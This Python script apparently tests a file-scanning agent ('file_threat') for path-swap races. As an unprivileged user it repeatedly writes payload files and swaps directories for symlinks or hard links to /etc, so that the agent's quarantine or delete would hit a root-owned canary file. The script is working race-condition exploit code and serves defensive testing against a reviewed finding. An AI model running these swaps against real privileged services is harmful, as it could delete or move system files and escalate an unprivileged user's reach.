#!/usr/bin/python3
"""Path-swap attacks on file_threat's actions, run as an unprivileged user.

attack_swap.py VARIANT HOME CANARY SECONDS PAYLOAD

Each try writes a detectable file (PAYLOAD's bytes) whose name is the
canary's, then swaps a path component so that, if the agent re-resolved the
path, its quarantine or delete would hit the root-owned CANARY in /etc:
  dir       ~/d/NAME, then ~/d becomes a symlink to /etc (the review's H2)
  deep      ~/x/y/z/NAME, then ~/x becomes a symlink to ~/alt, whose y/z is a
            symlink to /etc (a swap of a component higher up)
  exchange  ~/d/NAME and a symlink ~/s -> /etc swapped atomically back and
            forth with renameat2(RENAME_EXCHANGE) (a rename race)
  final     ~/f/NAME replaced by a symlink to the canary itself
  hardlink  ~/h/NAME replaced by a hard link to the canary (the kernel refuses
            this for a file the user does not own unless protected_hardlinks=0,
            and across file systems; refusals are counted)
  exec      ~/e/NAME made executable and executed; ~/e swapped for a symlink
            to /etc while the exec waits for the agent's verdict
A backlog of small files keeps the agent's workers busy to widen the window.
Prints "tries=N" and how often each step was possible.
"""
import ctypes
import os
import random
import sys
import time

variant, home, canary, seconds, payload_file = sys.argv[1:6]
seconds = float(seconds)
payload = open(payload_file, 'rb').read()
name = os.path.basename(canary)
etc = os.path.dirname(canary)
libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2
AT_FDCWD = -100


def exchange(a, b):
    return libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) == 0


def write(path, mode=0o644):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, mode)
    os.write(fd, payload)
    os.close(fd)  # FAN_CLOSE_WRITE: the agent captures the path now


def remove(path):
    try:
        if os.path.islink(path) or os.path.isfile(path):
            os.unlink(path)
        elif os.path.isdir(path):
            for entry in os.listdir(path):
                remove(os.path.join(path, entry))
            os.rmdir(path)
    except OSError:
        pass


def backlog(n=100):
    junk = os.path.join(home, 'junk')
    os.makedirs(junk, exist_ok=True)
    for i in range(n):
        with open(os.path.join(junk, str(i)), 'w') as f:
            f.write('x')


def pause():
    time.sleep(random.choice([0, 0.0002, 0.001, 0.005, 0.02]))


stats = {'tries': 0, 'refused_by_kernel': 0}


def swap_for_link(path, target, n):
    """Moves the directory `path` aside and puts a link to `target` in its place for a
    moment, then removes both."""
    os.rename(path, '%s.%d' % (path, n))
    os.symlink(target, path)
    pause()
    os.unlink(path)
    remove('%s.%d' % (path, n))


def try_dir(n):
    d = os.path.join(home, 'd')
    remove(d)
    os.mkdir(d)
    write(os.path.join(d, name))
    swap_for_link(d, etc, n)


def try_deep(n):
    x, alt = os.path.join(home, 'x'), os.path.join(home, 'alt')
    if not os.path.isdir(os.path.join(alt, 'y')):
        os.makedirs(os.path.join(alt, 'y'))
        os.symlink(etc, os.path.join(alt, 'y', 'z'))
    remove(x)
    os.makedirs(os.path.join(x, 'y', 'z'))
    write(os.path.join(x, 'y', 'z', name))
    swap_for_link(x, alt, n)


def try_exchange(n):
    d, s = os.path.join(home, 'd'), os.path.join(home, 's')
    remove(d)
    remove(s)
    os.mkdir(d)
    os.symlink(etc, s)
    write(os.path.join(d, name))
    end = time.time() + random.choice([0.001, 0.01, 0.05])
    while time.time() < end:
        exchange(d, s)
    if os.path.islink(d):
        exchange(d, s)


def replace_final(n, subdir, plant):
    """Writes the test file in home/subdir, moves it aside and plants(target) the
    replacement in its place for a pause, then removes both."""
    d = os.path.join(home, subdir)
    os.makedirs(d, exist_ok=True)
    target = os.path.join(d, name)
    remove(target)
    write(target)
    os.rename(target, '%s.%d' % (target, n))
    plant(target)
    pause()
    remove(target)
    remove('%s.%d' % (target, n))


def try_final(n):
    replace_final(n, 'f', lambda target: os.symlink(canary, target))


def link_canary(target):
    try:
        os.link(canary, target)
    except OSError:  # EPERM (protected_hardlinks) or EXDEV (another file system)
        stats['refused_by_kernel'] += 1


def try_hardlink(n):
    replace_final(n, 'h', link_canary)


def try_exec(n):
    e = os.path.join(home, 'e')
    remove(e)
    os.mkdir(e)
    target = os.path.join(e, name)
    write(target, 0o755)
    pid = os.fork()
    if pid == 0:
        try:
            os.execv(target, [target])
        except OSError:
            os._exit(1)
    time.sleep(random.choice([0.0005, 0.002, 0.01]))
    os.rename(e, '%s.%d' % (e, n))
    os.symlink(etc, e)
    os.waitpid(pid, 0)
    os.unlink(e)
    remove('%s.%d' % (e, n))


attack = {'dir': try_dir, 'deep': try_deep, 'exchange': try_exchange, 'final': try_final,
          'hardlink': try_hardlink, 'exec': try_exec}[variant]
deadline = time.time() + seconds
while time.time() < deadline and os.path.exists(canary):
    stats['tries'] += 1
    if stats['tries'] % 5 == 1:
        backlog()
    try:
        attack(stats['tries'])
    except OSError as err:  # the agent moved our file away first: just try again
        stats.setdefault('errors', 0)
        stats['errors'] += 1
print(' '.join('%s=%d' % kv for kv in stats.items()))
